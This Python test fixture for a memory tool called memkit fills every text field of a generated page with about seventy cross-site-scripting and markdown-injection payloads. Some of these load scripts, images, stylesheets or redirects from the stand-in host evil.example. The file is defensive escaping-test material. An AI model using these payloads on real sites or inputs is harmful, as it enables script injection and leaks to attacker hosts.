"""Text of a memory that tries to run as a script, to load something, or to lead away. EVIL is another host."""

from __future__ import annotations

import datetime
from pathlib import Path

from memkit import Memory
from tests.page.home import LAST, PageHome
from tests.page.story import Said

EVIL = "evil.example"

PAYLOADS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>",
    "<script type=module>import('//evil.example/x.js')</script>", "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>", "<img/src='x'/onerror='alert(1)'>",
    "<img srcset='//evil.example/a 1x'>", "<IMG SRC=`javascript:alert(1)`>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='//evil.example/x.svg#a'></use></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x.swf></object>", "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<div style=\"background:url('//evil.example/x.png')\">x</div>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button autofocus onfocus=alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>", "<audio src=//evil.example/x.mp3 autoplay>",
    "<marquee onstart=alert(1)>x</marquee>", "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a href=javascript:alert(1)>x</a>",
    "<a href=//evil.example ping=//evil.example/ping>x</a>", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox(1))",
    "![x](//evil.example/pixel.png)", "![x](https://evil.example/pixel.png)", "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)", "<https://evil.example/\"onmouseover=\"alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "[x](https://evil.example \"title\\\" onmouseover=alert(1)\")",
    "`<img src=x onerror=alert(1)>`", "```html\n<img src=x onerror=alert(1)>\n```",
    "```\"><img src=x onerror=alert(1)>\ncode\n```", "\"><img src=x onerror=alert(1)>", "'-alert(1)-'",
    "\" onmouseover=alert(1) x=\"", "--><img src=x onerror=alert(1)><!--",
    "<!--><img src=x onerror=alert(1)>-->", "]]><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "javascript:alert(1)",
    "<img src=x onerror=\u2028alert(1)>", "＜script＞alert(1)＜/script＞", "<x onclick=alert(1)>click</x>",
    "<p><svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg></p>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
]  # fmt: skip
"""Some are harmless by themselves, and dangerous only in an attribute, a template, or after decoding."""


def make_hostile(root: Path, models: str) -> PageHome:
    """A memory that has every payload wherever it shows text."""
    sessions = []
    for start in range(0, len(PAYLOADS), 5):
        said = [
            Said(
                f"{one} gateway",
                f"{one}\n\n- {one}\n\n> {one}\n\n| a | b |\n|---|---|\n| {one} | x |\n\nThe gateway {one}",
                (f"src/{one[:60].replace('/', '_')}.py",),
                "finding: " + " ".join(f"The gateway {one}".split()),
                f"{one}\n{one}",
            )
            for one in PAYLOADS[start : start + 5]
        ]
        sessions.append((LAST - datetime.timedelta(days=start // 5), said))
    page = PageHome(root, models, sessions, branches=[one.replace(" ", "") for one in PAYLOADS[5::5]])
    for number, one in enumerate(PAYLOADS):
        page.add_note(f"{one} note {number}", (one, "gateway"), LAST - datetime.timedelta(days=number % 9))
    page.memkit("remember", PAYLOADS[0])
    page.finish()
    memory = Memory(page.project, home=page.home)
    for topic, one in zip(memory.topics().topics, PAYLOADS[6:], strict=False):
        memory.rename_topic(topic.id, one)
    return page
